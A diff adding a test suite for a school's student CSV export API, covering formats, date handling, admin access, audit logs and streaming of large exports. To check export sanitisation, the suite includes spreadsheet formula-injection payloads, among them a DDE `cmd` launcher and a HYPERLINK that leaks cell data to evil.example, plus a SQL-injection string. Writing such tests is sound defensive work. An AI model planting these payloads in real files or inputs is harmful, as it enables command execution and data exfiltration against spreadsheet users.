@@ -1,0 +1,332 @@
+import Papa from "papaparse";
+import { beforeAll, describe, expect, test } from "vitest";
+import { caller, expectRefusal, logged } from "../support/call";
+import { sql } from "../support/database";
+import { adult, newPhone, staffMember, staffToken, student, tokenOf } from "./cast";
+
+// So few connections that one which is not given back is missed at once.
+process.env.DATABASE_POOL = "2";
+
+const at = "/api/v1/students";
+const { GET } = await import("@/app/api/v1/students/export/route");
+const refused = caller({ GET }, "GET", `${at}/export`);
+const list = caller(await import("@/app/api/v1/students/route"), "GET", at);
+const register = caller(
+  await import("@/app/api/v1/students/register-student/route"),
+  "POST",
+  `${at}/register-student`,
+);
+
+const HEADER = [
+  "Full Name",
+  "Phone Number",
+  "Reg. Number",
+  "ID Number",
+  "Date of Birth",
+  "Email",
+  "Guardian Name",
+  "Guardian ID",
+  "Guardian Phone",
+  "Current Residence",
+  "Channel",
+  "Enrollment Status",
+  "Season",
+  "Status",
+  "Registration Time",
+];
+
+let adminId: string;
+let token: string;
+let today: string;
+beforeAll(async () => {
+  adminId = await staffMember("admin");
+  token = await tokenOf(adminId);
+  const [row] = await sql`select (now() at time zone 'Africa/Nairobi')::date::text as today`;
+  today = row!.today;
+});
+
+function ask(createdFrom: string, createdTo: string): Promise<Response> {
+  const url = `http://academy.test${at}/export?${new URLSearchParams({ createdFrom, createdTo })}`;
+  return GET(new Request(url, { headers: { authorization: `Bearer ${token}` } }));
+}
+
+async function download(createdFrom = today, createdTo = today): Promise<string[][]> {
+  const response = await ask(createdFrom, createdTo);
+  const text = await response.text();
+  expect(response.status, text.slice(0, 200)).toBe(200);
+  const { data, errors } = Papa.parse<string[]>(text, { skipEmptyLines: true });
+  expect(errors).toEqual([]);
+  return data;
+}
+
+/** A student as the database may hold one, whatever the form lets through. */
+async function insert(more: Record<string, unknown>): Promise<string> {
+  const row = {
+    full_name: "Amina Otieno",
+    msisdn: newPhone(),
+    dob: "1999-03-05",
+    id_number: "A1234567",
+    residence: "Kayole",
+    channel: "Flier",
+    enrollment_status: "new",
+    season_number: 8,
+    ...more,
+  };
+  const [written] = await sql`insert into students ${sql(row)} returning registration_no`;
+  return written!.registration_no;
+}
+
+describe("GET students/export", () => {
+  test("200 a CSV file with a header and a row for each registration", async () => {
+    const someone = await student({ full_name: 'Wanjikũ "W" Kamau, Jr', residence: "Kayole\nEstate" });
+    const response = await ask(today, today);
+    expect(response.status).toBe(200);
+    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(response.headers.get("cache-control")).toBe("no-store");
+    const name = /^attachment; filename="Registrations_(\d{10})\.csv"$/.exec(
+      response.headers.get("content-disposition") ?? "",
+    );
+    expect(Math.abs(Number(name?.[1]) - Date.now() / 1000)).toBeLessThan(60);
+    const lines = Papa.parse<string[]>(await response.text()).data;
+    expect(lines[0]).toEqual(HEADER);
+    const row = lines.find((line) => line[2] === someone.registration_no);
+    expect(row).toEqual([
+      'Wanjikũ "W" Kamau, Jr',
+      someone.msisdn,
+      someone.registration_no,
+      "A1234567",
+      "05/03/1999",
+      "amina@example.com",
+      "",
+      "",
+      "",
+      "Kayole Estate",
+      "Flier",
+      "new",
+      "8",
+      "active",
+      expect.stringMatching(/^\d\d\/\d\d\/\d{4} \d\d:\d\d$/),
+    ]);
+  });
+
+  test("200 the dates are Nairobi's, both included, and so is the time shown", async () => {
+    const day = "2026-02-14";
+    const inside = [
+      await insert({ full_name: "First", created_at: "2026-02-13T21:00:00Z" }),
+      await insert({ full_name: "Last", created_at: "2026-02-14T20:59:59Z" }),
+    ];
+    await insert({ full_name: "Before", created_at: "2026-02-13T20:59:59Z" });
+    await insert({ full_name: "After", created_at: "2026-02-14T21:00:00Z" });
+    const lines = (await download(day, day)).slice(1);
+    expect(lines.map((line) => line[2])).toEqual(inside);
+    expect(lines.map((line) => line.at(-1))).toEqual(["14/02/2026 00:00", "14/02/2026 23:59"]);
+    expect((await download("2026-02-13", "2026-02-15")).length).toBe(5);
+  });
+
+  test("200 no registrations is a header alone", async () => {
+    expect(await download("2024-01-01", "2024-01-01")).toEqual([HEADER]);
+  });
+
+  test("400 both dates, from 2024-01-01, not after today, in order", async () => {
+    const tomorrow = new Date(Date.parse(today) + 86_400_000).toISOString().slice(0, 10);
+    const cases: Array<[Record<string, string>, string[], string?]> = [
+      [{}, ["createdFrom", "createdTo"]],
+      [{ createdFrom: today }, ["createdTo"]],
+      [{ createdTo: today }, ["createdFrom"]],
+      [{ createdFrom: "2023-12-31", createdTo: today }, ["createdFrom"], "Choose a date from 01/01/2024 on."],
+      [
+        { createdFrom: today, createdTo: tomorrow },
+        ["createdTo"],
+        "Choose a date that is not later than today.",
+      ],
+      [
+        { createdFrom: today, createdTo: "2024-01-01" },
+        ["createdTo"],
+        "The second date must not be before the first.",
+      ],
+      [{ createdFrom: "01/01/2024", createdTo: today }, ["createdFrom"]],
+      [{ createdFrom: "2024-01-01' or '1'='1", createdTo: today }, ["createdFrom"]],
+      [{ createdFrom: "2026-02-30", createdTo: today }, ["createdFrom"]],
+    ];
+    for (const [query, fields, msg] of cases) {
+      const answer = await refused({ token, query });
+      expectRefusal(answer, 400, "invalid", ...fields);
+      if (msg) expect(answer.body.msg).toBe(msg);
+    }
+  });
+
+  test("401 nobody, 403 nobody but an admin, and neither is written down as an export", async () => {
+    const before = await sql`select count(*)::int as lines from audit_log`;
+    const query = { createdFrom: today, createdTo: today };
+    expectRefusal(await refused({ query }), 401, "identity_required");
+    for (const role of ["tutor", "cashier", "finance"] as const)
+      expectRefusal(await refused({ token: await staffToken(role), query }), 403, "not_allowed");
+    expect(await sql`select count(*)::int as lines from audit_log`).toEqual(before);
+  });
+
+  test("who exported which dates is written down; the log holds nothing of it", async () => {
+    const someone = await student({ full_name: "Unlogged Person" });
+    await download("2026-02-14", today);
+    const [line] =
+      await sql`select actor_id, subject, changes from audit_log where verb = 'students.export' order by id desc limit 1`;
+    expect(line).toEqual({
+      actor_id: adminId,
+      subject: `export:2026-02-14_${today}`,
+      changes: { exported: "students" },
+    });
+    const text = logged.join("");
+    for (const word of ["Unlogged", someone.msisdn]) expect(text).not.toContain(word);
+  });
+});
+
+const SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
+const PAYLOADS = [
+  ...SIGNS.map((sign) => `${sign}1+1`),
+  ...SIGNS.map((sign) => `  ${sign}cmd|' /C calc'!A0`),
+  ...SIGNS.map((sign) => `${sign}HYPERLINK("http://evil.example?x="&A1,"click")`),
+  ...SIGNS.map((sign) => `\t${sign}SUM(1,1)`),
+  "\t1",
+  "\r1",
+  "\n1",
+  "\n=1+1",
+  "\r\n@x",
+  "=1,2;3\t4",
+  '="quoted"',
+  "'=already",
+  "-",
+];
+const isSafe = (cell: string) =>
+  cell === "" ||
+  (!/^[=+\-@＝＋－＠\t\r\n]/.test(cell.trimStart() === cell ? cell : `${cell[0]}`) &&
+    !/^\s*[=+\-@＝＋－＠]/.test(cell));
+
+describe("a cell of the export", () => {
+  test("is never a formula, whatever the database holds in whichever column", async () => {
+    const columns = [
+      "full_name",
+      "residence",
+      "guardian_name",
+      "guardian_id_no",
+      "guardian_msisdn",
+      "id_number",
+      "email",
+    ];
+    const sent = new Map<string, string>();
+    for (const payload of PAYLOADS)
+      sent.set(await insert(Object.fromEntries(columns.map((column) => [column, payload]))), payload);
+    const places = [0, 9, 6, 7, 8, 3, 5];
+    const lines = await download();
+    let seen = 0;
+    for (const line of lines) {
+      const payload = sent.get(line[2] ?? "");
+      if (payload === undefined) continue;
+      seen += 1;
+      for (const place of places) {
+        const cell = line[place] ?? "";
+        expect(isSafe(cell), JSON.stringify([HEADER[place], cell])).toBe(true);
+        // One apostrophe in front is all that is added.
+        expect([payload, `'${payload}`]).toContain(cell);
+      }
+    }
+    expect(seen).toBe(PAYLOADS.length);
+  });
+
+  test("is never a formula that came through the registration form", async () => {
+    const numbers: unknown[] = [];
+    for (const payload of PAYLOADS) {
+      const json = { ...adult({ full_name: `${payload}x`, residence: payload }) };
+      const answer = await register({ token, json });
+      expect([200, 201, 400], answer.text).toContain(answer.status);
+      if (answer.status === 201) numbers.push(answer.body.data.registration_no);
+    }
+    expect(numbers.length).toBeGreaterThan(30);
+    const lines = (await download()).filter((line) => numbers.includes(line[2] ?? ""));
+    expect(lines).toHaveLength(numbers.length);
+    for (const cell of lines.flat()) expect(isSafe(cell), JSON.stringify(cell)).toBe(true);
+  });
+
+  test("writes phones without a plus", async () => {
+    const phones = (await download()).slice(1).map((line) => line[1]);
+    expect(phones.every((phone) => /^254[17]\d{8}$/.test(phone ?? ""))).toBe(true);
+  });
+});
+
+describe("a large export", () => {
+  const ROWS = 100_000;
+  const DAY = "2025-05-05";
+  beforeAll(async () => {
+    // The index of the search has no part in this, and is slow to fill.
+    await sql`drop index students_search`;
+    await sql`insert into students (full_name, msisdn, dob, id_number, residence, channel, enrollment_status, season_number, created_at)
+      select 'Crowd ' || n, '2541' || (20000000 + n), '1999-01-01', 'A1234', repeat('long way home ', 40), 'Flier', 'new', 8,
+        '2025-05-05T09:00:00Z'::timestamptz from generate_series(1, ${ROWS}) n`;
+  }, 60_000);
+
+  test("begins at once and is never gathered in memory, however slow the reader", {
+    timeout: 60_000,
+  }, async () => {
+    const held = () => {
+      const { heapUsed, external } = process.memoryUsage();
+      return (heapUsed + external) / 2 ** 20;
+    };
+    const before = held();
+    const began = performance.now();
+    const response = await ask(DAY, DAY);
+    const reader = response.body!.getReader();
+    const first = await reader.read();
+    const firstAfter = performance.now() - began;
+    expect(new TextDecoder().decode(first.value)).toMatch(/^Full Name,/);
+    // Nobody reads for a while: what Postgres has to say must wait there.
+    await new Promise((resolve) => setTimeout(resolve, 1_500));
+    let most = held() - before;
+    let bytes = first.value!.byteLength;
+    let lines = linesIn(first.value!);
+    let chunks = 1;
+    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) {
+      bytes += chunk.value.byteLength;
+      lines += linesIn(chunk.value);
+      chunks += 1;
+      if (chunks % 100 === 0) most = Math.max(most, held() - before);
+    }
+    expect(lines).toBe(ROWS + 1);
+    expect(bytes / 2 ** 20).toBeGreaterThan(50);
+    expect(firstAfter).toBeLessThan(2_000);
+    expect(most).toBeLessThan(40);
+  });
+
+  test("a reader who leaves early gives the connection back", { timeout: 60_000 }, async () => {
+    for (let leaving = 0; leaving < 5; leaving++) {
+      const response = await ask(DAY, DAY);
+      const reader = response.body!.getReader();
+      for (let chunk = 0; chunk < 3; chunk++) await reader.read();
+      await reader.cancel();
+      expect((await list({ token, query: { pageSize: "1" } })).status).toBe(200);
+    }
+    await expect.poll(() => running(), { timeout: 5_000 }).toBe(0);
+    // Both connections serve again, and with their usual patience.
+    const answers = await Promise.all([1, 2, 3, 4].map(() => list({ token, query: { pageSize: "1" } })));
+    expect(answers.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
+    expect((await download("2026-02-14", "2026-02-14")).length).toBe(3);
+  });
+
+  test("503 a call that finds every connection lent is told to come again, and is served afterwards", {
+    timeout: 60_000,
+  }, async () => {
+    const open = [await ask(DAY, DAY), await ask(DAY, DAY)];
+    const readers = open.map((response) => response.body!.getReader());
+    for (const reader of readers) await reader.read();
+    const busy = await list({ token });
+    expectRefusal(busy, 503, "busy");
+    expect(Number(busy.headers.get("retry-after"))).toBeGreaterThan(0);
+    for (const reader of readers) await reader.cancel();
+    await expect.poll(async () => (await list({ token })).status, { timeout: 5_000 }).toBe(200);
+  });
+});
+
+const linesIn = (chunk: Uint8Array) => chunk.filter((byte) => byte === 10).length;
+
+async function running(): Promise<number> {
+  const [row] = await sql`select count(*)::int as copies from pg_stat_activity
+    where datname = current_database() and state = 'active' and query ilike 'copy%'`;
+  return row!.copies;
+}
